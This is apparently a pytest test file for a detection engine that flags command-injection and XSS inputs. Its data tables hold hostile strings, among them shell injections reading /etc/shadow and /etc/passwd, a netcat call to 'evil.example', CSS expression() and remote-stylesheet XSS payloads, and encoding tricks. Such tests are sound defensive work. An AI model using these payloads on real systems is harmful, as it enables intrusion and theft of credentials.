"""Unit: command-injection and XSS shapes of the fresh21 first contact.

Shell: a command or process substitution whose command sits behind environment assignments or takes plain words
(``e$(X=1 echo ch)o``, ``<(cat …)``, ``>(nc …)``), assignments between a separator and its command
(``&& LC_ALL=C id``), and a value opening with a tool and a redirection only a shell writes (``id 2>&1``, ``&>``,
``>|``, ``<<-``, ``{fd}>``). Compound commands (``for … do … done``, ``if … then … fi``) and ``ls > file`` stay data:
shell snippets are legitimate in comment fields, and only a break-out makes them an injection.
XSS: CSS comments inside ``expression(``, a remote style sheet (``<link rel=stylesheet>``, ``<meta http-equiv=Link>``),
markup spelt with the high bit set for a US-ASCII page (``¼script¾``), a sink statement after a number or a name, and
a constructor used as a template tag. Values are our own; none comes from a corpus."""

from __future__ import annotations

import time
from collections.abc import Callable

import pytest

from bastion.detection import Context, Engine
from bastion.detection.shell import is_cmdi
from bastion.detection.xss import is_xss

BODY = Context("body", "note")
QUERY = Context("query", "comment")

CMDI_ATTACKS: dict[str, str] = {
    "substitution_glued_plain_args": "c$(printf a)t /etc/hostname",
    "substitution_glued_after_assignment": "x$(LANG=C uname -r)y",
    "substitution_quoted_assignment": "w$(GREETING='a b c' echo ho)ami",
    "process_substitution_reads": "diff <(cat /etc/shadow) base.txt",
    "process_substitution_writes": "report >(nc evil.example 4444)",
    "process_substitution_after_assignment": "wc <(TZ='UTC' id)",
    "assignment_after_and": "build && LC_ALL=C id",
    "assignments_after_semicolon": "1; PATH=/tmp:$PATH HOME=/ whoami",
    "quoted_assignment_after_pipe": "x | PAGER='less -R' cat /etc/passwd",
    "fd_duplicated": "id 2>&1",
    "fd_duplicated_spaced": "uname -a 2>& 1",
    "fd_closed": "whoami <& -",
    "both_streams": "cat /etc/hosts &> out.txt",
    "clobber": "ls -la >| listing",
    "tab_heredoc": "sort <<- END",
    "named_descriptor": "ls {out}> files.txt",
    "numbered_read_write": "cat 3<> /etc/passwd",
    "numbered_append": "ps aux 1>> procs",
}

CMDI_BENIGN: dict[str, str] = {
    "jquery_ready": "$(document).on('click', '.row', select)",
    "jquery_this": "$(this).parent().find('td').text()",
    "comparison_in_code": "if (total <(limit + 1)) return",
    "prose_parenthesis": "score >(type of test) average",
    "sql_not_equal": "id <> 5",
    "plain_redirect_prose": "ls > file",
    "here_string_variable": 'base64 -d <<< "$KEY"',
    "redirect_in_prose": "run ls 2>&1 to see the errors",
    "redirect_in_backticks": "Merge stderr with `make test 2>&1` in CI.",
    "redirect_in_fence": "```\nls -la 2>&1\n```",
    "bare_listing": "ls -a",
    "environment_prefixed": "VAR=VAL ls",
    "loop_snippet": 'for f in *.log; do gzip "$f"; done',
    "subshell_in_parentheses": "(ls -a)",
    "quoted_substitution_assignment": 'NOW="$(date +%s)"',
    "query_string": "a=1&b=2&c=3",
}

XSS_ATTACKS: dict[str, str] = {
    "css_comment_in_expression": '<p style="color:expr/* x */ession(alert(2))">',
    "bare_declaration_with_comment": "width:ex/**/pression(confirm(1))",
    "style_element_comment": "<style>p{top:expres/*a*/sion(prompt(3))}</style>",
    "link_stylesheet": "<LINK rel=StyleSheet href='https://evil.example/a.css'>",
    "link_import": '<link rel="import" href="//x.example/p.html">',
    "meta_link_header": '<meta http-equiv=link content="<//e.example/s.css>;rel=stylesheet">',
    "high_bit_iframe": "¼iframe src=//e.example/¾",
    "high_bit_handler": "¼img src=x onerror=alert(1)¾",
    "number_then_sink": "42);confirm(document.domain)//",
    "pair_then_sink": "page=3;prompt(1)",
    "constructor_template": "Map.constructor`confirm\\x281\\x29```",
}

XSS_BENIGN: dict[str, str] = {
    "recipe_fractions": "¼ cup sugar, ¾ cup flour",
    "fraction_then_word": "add ¼teaspoon salt, then ¾ more",
    "link_icon": '<link rel="icon" href="/favicon.ico">',
    "link_canonical": "<link rel=canonical href=https://example.com/a>",
    "meta_content_type": '<meta http-equiv="content-type" content="text/html; charset=utf-8">',
    "css_comment_plain": "width: 100px; /* note */ height: 2px",
    "prose_with_alert_word": "Step 2); alert(the team) before the release",
    "code_statement": "const n = 5; alert(n);",
    "constructor_call": "this.constructor(props)",
}


ATTACKS = {**{k: (v, "cmdi") for k, v in CMDI_ATTACKS.items()}, **{k: (v, "xss") for k, v in XSS_ATTACKS.items()}}
BENIGN = {**CMDI_BENIGN, **XSS_BENIGN}


@pytest.mark.parametrize(("value", "attack"), ATTACKS.values(), ids=ATTACKS.keys())
def test_fresh21_shape_is_caught(engine: Engine, value: str, attack: str) -> None:
    for ctx in (BODY, QUERY):
        found = engine.inspect(value, ctx)
        assert found is not None and found.rule.attack == attack, (value, found)


@pytest.mark.parametrize("value", BENIGN.values(), ids=BENIGN.keys())
def test_fresh21_look_alike_passes(engine: Engine, value: str) -> None:
    assert engine.inspect(value, BODY) is None, value


ADVERSARIAL: list[tuple[Callable[[str], object], str]] = [
    (is_cmdi, "x$(" * 40_000),
    (is_cmdi, "<(" + "ls " * 40_000),
    (is_cmdi, "a; " + "A=1 " * 30_000 + "x"),
    (is_cmdi, "ls " + "a " * 60_000 + "2>"),
    (is_cmdi, "ls" + " {a}" * 30_000),
    (is_xss, '<p style="' + "/*" * 60_000 + '">'),
    (is_xss, "¼" * 65_000 + "¾"),
    (is_xss, "1" * 40 + ");" + "alert(" * 20_000),
    (is_xss, "a.constructor`" * 9_000),
]


@pytest.mark.parametrize(("check", "value"), ADVERSARIAL)
def test_fresh21_adversarial_values_are_linear(check: Callable[[str], object], value: str) -> None:
    value = value[: 128 * 1024]
    start = time.process_time()
    check(value)
    assert time.process_time() - start < 1.0


@pytest.mark.parametrize(("encoded", "plain"), [
    ("%u0044%u0052%u004f%u0050%u0020%u0074%u0061%u0062", "DROP tab"),
    ("%D%R%O%P %t%a%b", "DROP tab"),
    ("%25u0044%25u0052%25u004f%25u0050", "DROP"),
])
def test_fresh21_iis_and_asp_encodings_are_already_decoded(encoded: str, plain: str) -> None:
    """IIS ``%uXXXX`` and ASP's dropped ``%`` are decoded forms the analysers already see (``decode.variants``): the
    fresh21 misses of this shape decode to a whole SQL statement, which is the SQL analyser's to judge."""
    from bastion.detection.decode import variants

    assert plain in variants(encoded)
